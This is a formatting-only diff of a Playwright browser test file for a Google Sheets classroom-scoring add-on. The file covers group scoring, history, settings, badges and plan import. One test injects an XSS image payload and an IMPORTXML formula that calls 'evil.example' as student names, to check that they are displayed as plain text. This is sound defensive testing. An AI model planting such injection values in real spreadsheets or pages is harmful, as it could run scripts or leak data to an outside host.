@@ -9,7 +9,15 @@ import { chromium, type Browser, type Page } from 'playwright-core';
 import { runServerFunction } from '../../sheets-addon/harness/index.ts';
 import { bundle, formGroupsRequest, logName, open, otherUser, ROSTER_ZH, seedLog, type Session } from './helpers.ts';
 
-const FLAGS = ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
+const FLAGS = [
+  '--no-sandbox',
+  '--disable-gpu',
+  '--disable-quic',
+  '--no-first-run',
+  '--disable-background-networking',
+  '--disable-component-update',
+  '--disable-sync',
+];
 const OUT = 'test-output/addon';
 
 /** google.script.run for a static page: each call goes to node, asynchronously, like the real one. */
@@ -36,7 +44,9 @@ beforeAll(async () => {
   browser = await chromium.launch({ executablePath: '/usr/bin/chromium', headless: true, args: FLAGS });
   mkdirSync(OUT, { recursive: true });
 });
-afterAll(async () => { await browser?.close(); });
+afterAll(async () => {
+  await browser?.close();
+});
 
 const sidebarFor = async (s: Session, delayMs = 0): Promise<Page> => {
   const html = (await bundle()).pages['Sidebar']!;
@@ -89,7 +99,11 @@ describe('Scoring sidebar in Chromium', () => {
     const page = await sidebarFor(s);
     const group = page.locator('[data-testid=group]').first();
     await group.click();
-    const ids = await page.locator('.group').first().locator('[data-testid=student]').evaluateAll((els) => els.map((e) => e.getAttribute('data-id')!));
+    const ids = await page
+      .locator('.group')
+      .first()
+      .locator('[data-testid=student]')
+      .evaluateAll((els) => els.map((e) => e.getAttribute('data-id')!));
     expect(ids).toHaveLength(4);
     await page.keyboard.press('Digit2'); // 纪律 +1 for the whole group
     await expect.poll(() => logLength(s)).toBe(4);
@@ -97,7 +111,13 @@ describe('Scoring sidebar in Chromium', () => {
     await expect.poll(() => logLength(s)).toBe(8);
     const st = s.call('scoringState');
     for (const id of ids) expect(st.totals[id]).toBe(0);
-    expect(s.si.workbook.sheet('积分记录').values().slice(1).map((r) => r[5])).toEqual(['纪律', '纪律', '纪律', '纪律', '卫生', '卫生', '卫生', '卫生']);
+    expect(
+      s.si.workbook
+        .sheet('积分记录')
+        .values()
+        .slice(1)
+        .map((r) => r[5]),
+    ).toEqual(['纪律', '纪律', '纪律', '纪律', '卫生', '卫生', '卫生', '卫生']);
     await page.close();
   });
 
@@ -105,7 +125,9 @@ describe('Scoring sidebar in Chromium', () => {
     const s = await grouped();
     const other = await otherUser(s, 'colleague@example.com');
     const page = await sidebarFor(s);
-    const ids = await page.locator('[data-testid=student]').evaluateAll((els) => els.slice(0, 3).map((e) => e.getAttribute('data-id')!));
+    const ids = await page
+      .locator('[data-testid=student]')
+      .evaluateAll((els) => els.slice(0, 3).map((e) => e.getAttribute('data-id')!));
     expect(other.si.LockService.getDocumentLock().tryLock(1000)).toBe(true); // a long write elsewhere
     for (const id of ids) {
       await page.click('[data-testid=clear-selection]');
@@ -120,11 +142,17 @@ describe('Scoring sidebar in Chromium', () => {
     other.si.endExecution(); // the other write finished
     await expect.poll(() => logLength(s), { timeout: 15_000 }).toBe(3);
     await expect.poll(() => page.locator('[data-testid=queue]').isHidden()).toBe(true);
-    expect(s.si.workbook.sheet('积分记录').values().slice(1).map((r) => r[2])).toEqual(ids);
+    expect(
+      s.si.workbook
+        .sheet('积分记录')
+        .values()
+        .slice(1)
+        .map((r) => r[2]),
+    ).toEqual(ids);
     await page.close();
   });
 
-  it('reconciles with the log on refresh (another teacher\'s award) and reverses a past entry', async () => {
+  it("reconciles with the log on refresh (another teacher's award) and reverses a past entry", async () => {
     const s = await grouped();
     const other = await otherUser(s, 'colleague@example.com');
     const page = await sidebarFor(s);
@@ -144,7 +172,7 @@ describe('Scoring sidebar in Chromium', () => {
   it('filters by search and shows names exactly as text (no markup, no formulas)', async () => {
     const rows = ROSTER_ZH.map((r) => [...r]);
     rows[3]![1] = '<img src=x onerror="window.__pwned=1">';
-    rows[4]![1] = "'=IMPORTXML(\"http://evil.example\",\"//a\")";
+    rows[4]![1] = '\'=IMPORTXML("http://evil.example","//a")';
     const s = await grouped(rows);
     const page = await sidebarFor(s);
     await expect.poll(() => page.locator('.mname', { hasText: '<img src=x' }).count()).toBe(1);
@@ -190,7 +218,7 @@ describe('History in Chromium: any past entry', () => {
     await page.close();
   });
 
-  it('lists only the selected student\'s entries, marks ones reversed further down, and reports a colleague\'s earlier reversal', async () => {
+  it("lists only the selected student's entries, marks ones reversed further down, and reports a colleague's earlier reversal", async () => {
     const s = await grouped();
     const members = seedLog(s, 500);
     const other = await otherUser(s, 'colleague@example.com');
@@ -200,7 +228,9 @@ describe('History in Chromium: any past entry', () => {
     await page.click(`[data-testid=student][data-id="${m.id}"]`);
     await page.check('[data-testid=history-only-selected]');
     await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(1 + 21); // its reversal row + 21 entries (e7 … e487)
-    const shown = await page.locator('[data-testid=entry]').evaluateAll((els) => els.map((e) => e.getAttribute('data-event')));
+    const shown = await page
+      .locator('[data-testid=entry]')
+      .evaluateAll((els) => els.map((e) => e.getAttribute('data-event')));
     expect(shown.slice(1)).toEqual(Array.from({ length: 21 }, (_, k) => `e${7 + 24 * (20 - k)}`));
     await expect.poll(() => page.locator('[data-testid=history-info]').textContent()).toBe('已到最早的记录。');
     expect(await page.locator('[data-testid=entry][data-event=e31]').getAttribute('class')).toBe('reversed');
@@ -221,7 +251,9 @@ describe('History in Chromium: any past entry', () => {
     const members = seedLog(s, 40);
     const page = await sidebarFor(s);
     await expect.poll(() => page.locator('[data-testid=older-entries]').textContent()).toBe('Older entries');
-    expect(await page.locator('label', { has: page.locator('[data-testid=history-only-selected]') }).textContent()).toBe('Only the selected students');
+    expect(
+      await page.locator('label', { has: page.locator('[data-testid=history-only-selected]') }).textContent(),
+    ).toBe('Only the selected students');
     await page.click('[data-testid=older-entries]');
     await expect.poll(() => page.locator('[data-testid=history-info]').textContent()).toBe('That is the oldest entry.');
     await expect.poll(() => page.locator('[data-testid=entry]').count()).toBe(40);
@@ -291,7 +323,9 @@ describe('Form groups dialog in Chromium', () => {
     await page.click('[data-testid=recheck]');
     await expect.poll(() => page.locator('[data-testid=run]').isDisabled()).toBe(false);
     await page.click('[data-testid=run]');
-    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/已写入新工作表“分组”：24 名学生，6 个组/);
+    await expect
+      .poll(() => page.locator('[data-testid=result]').textContent())
+      .toMatch(/已写入新工作表“分组”：24 名学生，6 个组/);
     await page.screenshot({ path: `${OUT}/form-groups-done.png` });
     expect(s.si.workbook.sheetNames()).toContain('分组');
     await page.close();
@@ -307,14 +341,19 @@ describe('Settings dialog in Chromium', () => {
     await page.fill('[data-testid=badge-name]', '');
     await page.locator('[data-testid=category] .cat-name').nth(1).fill('Reading');
     await page.click('[data-testid=save]');
-    await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/not saved.*"Reading" appears twice.*badge needs a name/);
+    await expect
+      .poll(() => page.locator('[data-testid=result]').textContent())
+      .toMatch(/not saved.*"Reading" appears twice.*badge needs a name/);
     expect(s.si.workbook.findSheet('Settings')).toBeUndefined();
     await page.locator('[data-testid=category] .cat-name').nth(1).fill('Discipline');
     await page.fill('[data-testid=badge-name]', 'Star');
     await page.fill('[data-testid=badge-every]', '15');
     await page.click('[data-testid=save]');
     await expect.poll(() => page.locator('[data-testid=result]').textContent()).toMatch(/Saved/);
-    expect(s.call('settingsView').settings).toMatchObject({ badge: { name: 'Star', every: 15 }, categories: [{ name: 'Reading' }, { name: 'Discipline' }, { name: 'Hygiene' }] });
+    expect(s.call('settingsView').settings).toMatchObject({
+      badge: { name: 'Star', every: 15 },
+      categories: [{ name: 'Reading' }, { name: 'Discipline' }, { name: 'Hygiene' }],
+    });
     await page.close();
   });
 });
@@ -328,7 +367,9 @@ describe('Badges, leader suggestion, plan import and help in Chromium', () => {
     expect(await firstGroup.locator('.leader').count()).toBe(0);
     for (let i = 0; i < 10; i++) s.call('awardPoints', { studentIds: [id], category: '学习', points: 2 });
     await page.click('[data-testid=refresh]');
-    await expect.poll(() => page.locator(`[data-testid=student][data-id="${id}"] [data-testid=badges]`).textContent()).toBe('月亮×1');
+    await expect
+      .poll(() => page.locator(`[data-testid=student][data-id="${id}"] [data-testid=badges]`).textContent())
+      .toBe('月亮×1');
     const name = await page.locator(`[data-testid=student][data-id="${id}"] .mname`).textContent();
     await expect.poll(() => firstGroup.locator('.leader').textContent()).toBe(`建议组长：${name}`);
     await page.close();
@@ -337,7 +378,10 @@ describe('Badges, leader suggestion, plan import and help in Chromium', () => {
   it('imports pasted plan text through the dialog', async () => {
     const s = await open({ locale: 'zh-CN' });
     const page = await dialogFor(s, 'ImportPlan');
-    await page.fill('[data-testid=plan-text]', '小组合作学习方案\n一、分组方法\n每组6人，按2:2:2搭配。\n二、评比办法\n每得到20分，就可以换一个月亮。\n');
+    await page.fill(
+      '[data-testid=plan-text]',
+      '小组合作学习方案\n一、分组方法\n每组6人，按2:2:2搭配。\n二、评比办法\n每得到20分，就可以换一个月亮。\n',
+    );
     await page.click('[data-testid=preview]');
     await expect.poll(() => page.locator('[data-testid=plan] td').first().textContent()).toBe('小组合作学习方案');
     await page.click('[data-testid=import]');
